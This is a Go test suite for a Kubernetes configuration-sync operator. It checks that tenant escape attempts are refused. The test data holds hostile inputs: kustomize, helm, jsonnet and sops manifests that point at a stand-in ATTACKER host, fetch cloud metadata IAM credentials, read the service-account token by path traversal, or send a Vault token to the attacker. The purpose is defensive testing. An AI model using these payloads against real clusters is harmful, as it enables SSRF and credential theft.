package controllers_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"

	. "github.com/onsi/gomega"
	apimeta "k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	configsv1 "github.com/configsync/configsync/api/v1alpha1"
	"github.com/configsync/configsync/charts"
	"github.com/configsync/configsync/internal/testgit"
)

// minEscapeCases is how many tenant escapes the suite must have tried for
// docs/reliability.md to be written.
const minEscapeCases = 25

// lure is a loopback listener (plain HTTP) standing in for an address a tenant
// would like the operator to reach: an attacker's server, or the cloud
// metadata endpoint. It answers every request with a credential, so that
// a request that got through would show up in what the sync applied.
type lure struct {
	host     string
	requests atomic.Int64
}

// metadataCredential is what the "metadata endpoint" answers; it must
// appear nowhere (TestZZNoSecretLeaks looks for it).
const metadataCredential = "AKIAFAKEMETADATACREDENTIAL0123"

func startLure(t *testing.T) *lure {
	a := &lure{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.requests.Add(1)
		_, _ = w.Write([]byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: stolen}\ndata: {key: " + metadataCredential + "}\n"))
	}))
	t.Cleanup(srv.Close)
	a.host = strings.TrimPrefix(srv.URL, "http://")
	registerSecret(metadataCredential)
	return a
}

// tenantEscape is one thing a tenant, who may only create ConfigSyncs in its
// namespace and write its repository, tries in order to make the operator
// reach the network, read a file or use an identity that is not its own.
type tenantEscape struct {
	name  string
	files func(host string) map[string]string
	spec  func(cs *configsv1.ConfigSync)
	setup func(t *testing.T, ns string)
	// hostSpec, when set, writes the spec knowing the attacker's host.
	hostSpec func(cs *configsv1.ConfigSync, host string)
	reason   string
	message  string
}

// tenantEscapes lists the escapes renderer by renderer, in the order
// docs/reliability.md records them.
func tenantEscapes() []tenantEscape {
	var escapes []tenantEscape
	escapes = append(escapes, kustomizeEscapes()...)
	escapes = append(escapes, helmEscapes()...)
	escapes = append(escapes, jsonnetEscapes()...)
	escapes = append(escapes, templateEscapes()...)
	escapes = append(escapes, sopsEscapes()...)
	return escapes
}

// kustomizeEscapes aim every field kustomize would fetch a URL for at the
// attacker.
func kustomizeEscapes() []tenantEscape {
	kustomize := func(cs *configsv1.ConfigSync) {
		cs.Spec.Render = []configsv1.RenderStep{{Kustomize: &configsv1.KustomizeStep{Path: "."}}}
	}
	cm := manifest("ConfigMap", "ok", "data: {a: b}\n")
	kust := func(k string) func(string) map[string]string {
		return func(host string) map[string]string {
			return map[string]string{"kustomization.yaml": strings.ReplaceAll(k, "ATTACKER", host), "cm.yaml": cm}
		}
	}
	const refused = "renders may not reach the network"
	return []tenantEscape{
		{name: "kustomize resource URL", files: kust("resources:\n- http://ATTACKER/base.yaml\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize base URL", files: kust("bases:\n- http://ATTACKER/base\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize component URL", files: kust("resources: [cm.yaml]\ncomponents:\n- http://ATTACKER/component\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize git resource", files: kust("resources:\n- git::http://ATTACKER/org/repo.git//base?ref=main\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize configMapGenerator file from the metadata endpoint", files: kust("configMapGenerator:\n- name: creds\n  files:\n  - http://ATTACKER/latest/meta-data/iam/security-credentials/node\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize configMapGenerator key=URL file", files: kust("configMapGenerator:\n- name: creds\n  files:\n  - token=http://ATTACKER/token\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize secretGenerator envs URL", files: kust("secretGenerator:\n- name: creds\n  envs:\n  - http://ATTACKER/env\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize patch path URL", files: kust("resources: [cm.yaml]\npatches:\n- path: http://ATTACKER/patch.yaml\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize patchesStrategicMerge URL", files: kust("resources: [cm.yaml]\npatchesStrategicMerge:\n- http://ATTACKER/patch.yaml\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize replacements path URL", files: kust("resources: [cm.yaml]\nreplacements:\n- path: http://ATTACKER/replacements.yaml\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize openapi path URL", files: kust("resources: [cm.yaml]\nopenapi:\n  path: http://ATTACKER/schema.json\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize configurations URL", files: kust("resources: [cm.yaml]\nconfigurations:\n- http://ATTACKER/config.yaml\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize transformer URL", files: kust("resources: [cm.yaml]\ntransformers:\n- http://ATTACKER/transformer.yaml\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: refused},
		{name: "kustomize resource outside the repository", files: kust("resources:\n- ../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token\n"), spec: kustomize, reason: configsv1.ReasonRenderFailed, message: "render step 1 (kustomize)"},
	}
}

func helmEscapes() []tenantEscape {
	helm := func(cs *configsv1.ConfigSync) {
		cs.Spec.Render = []configsv1.RenderStep{{Helm: &configsv1.HelmStep{Chart: "chart"}}}
	}
	chart := func(extra map[string]string) func(string) map[string]string {
		return func(host string) map[string]string {
			files := map[string]string{
				"chart/Chart.yaml":        "apiVersion: v2\nname: app\nversion: 0.1.0\n",
				"chart/values.yaml":       "a: b\n",
				"chart/templates/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: chart}\ndata: {a: {{ .Values.a }}}\n",
			}
			for k, v := range extra {
				files[k] = strings.ReplaceAll(v, "ATTACKER", host)
			}
			return files
		}
	}
	return []tenantEscape{
		{name: "helm schema $ref over http", files: chart(map[string]string{"chart/values.schema.json": `{"$ref": "http://ATTACKER/schema.json"}`}), spec: helm, reason: configsv1.ReasonRenderFailed, message: "refused"},
		{name: "helm schema $ref to the operator's disk", files: chart(map[string]string{"chart/values.schema.json": `{"$ref": "file:///var/run/secrets/kubernetes.io/serviceaccount/token"}`}), spec: helm, reason: configsv1.ReasonRenderFailed, message: "refused"},
		// Remote charts go only to the hosts the admin allows (the suite
		// allows 127.0.0.1; the attacker is reached here as localhost).
		{name: "helm dependency from a host off the allowlist", files: offAllowlist(chart(map[string]string{"chart/Chart.yaml": "apiVersion: v2\nname: app\nversion: 0.1.0\ndependencies:\n- name: dep\n  version: 1.0.0\n  repository: http://ATTACKER/charts\n"})),
			spec: helm, reason: charts.ReasonChartHostNotAllowed, message: "not in the operator's allowed chart hosts"},
		{name: "helm chart repoURL off the allowlist", files: chart(nil), hostSpec: func(cs *configsv1.ConfigSync, host string) {
			cs.Spec.Render = []configsv1.RenderStep{{Helm: &configsv1.HelmStep{RepoURL: "http://" + localhost(host) + "/charts", Chart: "app"}}}
		}, reason: charts.ReasonChartHostNotAllowed, message: "not in the operator's allowed chart hosts"},
	}
}

func jsonnetEscapes() []tenantEscape {
	jsonnet := func(cs *configsv1.ConfigSync) {
		cs.Spec.Render = []configsv1.RenderStep{{Jsonnet: &configsv1.JsonnetStep{Entrypoint: "main.jsonnet"}}}
	}
	return []tenantEscape{
		{name: "jsonnet import over http", files: func(host string) map[string]string {
			return map[string]string{"main.jsonnet": `import "http://` + host + `/lib.libsonnet"`}
		}, spec: jsonnet, reason: configsv1.ReasonRenderFailed, message: "render step 1 (jsonnet)"},
		{name: "jsonnet importstr of the operator's token", files: func(string) map[string]string {
			return map[string]string{"main.jsonnet": `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "t"}, data: {t: importstr "/var/run/secrets/kubernetes.io/serviceaccount/token"}}`}
		}, spec: jsonnet, reason: configsv1.ReasonRenderFailed, message: "render step 1 (jsonnet)"},
	}
}

func templateEscapes() []tenantEscape {
	template := func(cs *configsv1.ConfigSync) {
		cs.Spec.Render = []configsv1.RenderStep{{Template: &configsv1.TemplateStep{}}}
	}
	return []tenantEscape{
		{name: "template resolves the attacker's host", files: func(host string) map[string]string {
			return map[string]string{"h.yaml": `a: {{ getHostByName "` + strings.Split(host, ":")[0] + `" }}`}
		}, spec: template, reason: configsv1.ReasonRenderFailed, message: "getHostByName"},
		{name: "template reads the operator's environment", files: func(string) map[string]string {
			return map[string]string{"e.yaml": `a: {{ env "KUBERNETES_SERVICE_HOST" }}{{ expandenv "$HOME" }}`}
		}, spec: template, reason: configsv1.ReasonRenderFailed, message: "env"},
	}
}

func sopsEscapes() []tenantEscape {
	return []tenantEscape{
		{name: "sops file for a Vault key at the attacker", files: func(host string) map[string]string {
			return map[string]string{"secret.yaml": vaultOnlySops(host)}
		}, spec: func(cs *configsv1.ConfigSync) {
			cs.Spec.Render = []configsv1.RenderStep{{Sops: &configsv1.SopsStep{DecryptionSecretRef: configsv1.LocalObjectReference{Name: "sops-keys"}}}}
		}, setup: func(t *testing.T, ns string) {
			createSecret(t, ns, "sops-keys", map[string]string{"age.agekey": string(readTestdata(t, "sops-age/age.agekey"))})
		}, reason: configsv1.ReasonRenderFailed, message: "cloud KMS and Vault keys are not used"},
	}
}

// localhost names the attacker's 127.0.0.1:port as localhost:port: the
// same listener, by a name the suite's chart allowlist does not hold.
func localhost(host string) string { return strings.Replace(host, "127.0.0.1", "localhost", 1) }

func offAllowlist(files func(string) map[string]string) func(string) map[string]string {
	return func(host string) map[string]string { return files(localhost(host)) }
}

// vaultOnlySops is the sops-age fixture re-keyed for a HashiCorp Vault key
// whose address is the attacker: sops' key service would call it with the
// operator's VAULT_TOKEN.
func vaultOnlySops(host string) string {
	data := string(readTestdataNoT("sops-age/input/secret.yaml"))
	vault := "    hc_vault:\n        - vault_address: http://" + host + "\n          engine_path: sops\n          key_name: tenant\n          created_at: \"2026-11-25T21:49:58Z\"\n          enc: vault:v1:bm90LWEtcmVhbC1kYXRhLWtleQ==\n"
	return regexp.MustCompile(`(?s)    age:\n.*?recipient: age1\S+\n`).ReplaceAllString(data, vault)
}

func readTestdataNoT(name string) []byte {
	b, err := os.ReadFile(filepath.Join("..", "testdata", "renderers", name))
	if err != nil {
		panic(err)
	}
	return b
}

func readTestdata(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "testdata", "renderers", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// Each escape, tried by a ConfigSync of its own against a real Git server,
// is refused with a clear reason and message; nothing reaches the attacker
// listener, nothing is applied, and afterwards the manager still syncs
// other ConfigSyncs. Every case is a row of docs/reliability.md.
func TestTenantEscapesAreRefused(t *testing.T) {
	server := testgit.Start(t)
	att := startLure(t)
	cases := tenantEscapes()
	t.Run("cases", func(t *testing.T) {
		for _, e := range cases {
			t.Run(e.name, func(t *testing.T) {
				t.Parallel()
				runEscape(t, server, att, e)
			})
		}
	})
	g := NewWithT(t)
	g.Expect(att.requests.Load()).To(BeZero(), "requests that reached the attacker")

	// The manager still serves other ConfigSyncs.
	stillSyncs(t, server, "after-escapes.git", map[string]string{"cm.yaml": configMap("after", "blue")}, nil)
}

func runEscape(t *testing.T, server *testgit.Server, att *lure, e tenantEscape) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := newNamespace(t)
	if e.setup != nil {
		e.setup(t, ns)
	}
	repo := server.NewRepo(t, sprintf("escape-%s.git", ns))
	repo.Commit(t, e.files(att.host), e.name)
	cs := newConfigSync(ns, "escape", repo.URL, "")
	if e.hostSpec != nil {
		e.hostSpec(cs, att.host)
	} else {
		e.spec(cs)
	}
	before := att.requests.Load()
	g.Expect(k8s.Create(ctx, cs)).To(Succeed())
	var ready *metav1.Condition
	g.Eventually(func(g Gomega) {
		got := getConfigSync(g, ns, "escape")
		ready = apimeta.FindStatusCondition(got.Status.Conditions, configsv1.ConditionReady)
		g.Expect(ready).NotTo(BeNil())
		g.Expect(ready.Reason).To(Equal(e.reason))
		g.Expect(ready.Message).To(ContainSubstring(e.message))
	}, timeout).Should(Succeed())
	var stolen []string
	for _, name := range appliedBy(g, ns, "escape") {
		if name == "stolen" || name == "t" || name == "creds" {
			stolen = append(stolen, name)
		}
	}
	reached := att.requests.Load() - before
	recordEscape(t, e.name, e.reason+": "+quote(e.message), ready.Reason, reached, len(stolen))
	g.Expect(stolen).To(BeEmpty(), "objects built from what the escape reached")
	g.Expect(reached).To(BeZero(), "requests that reached the attacker")
	g.Expect(ready.Message).NotTo(ContainSubstring(metadataCredential))
}
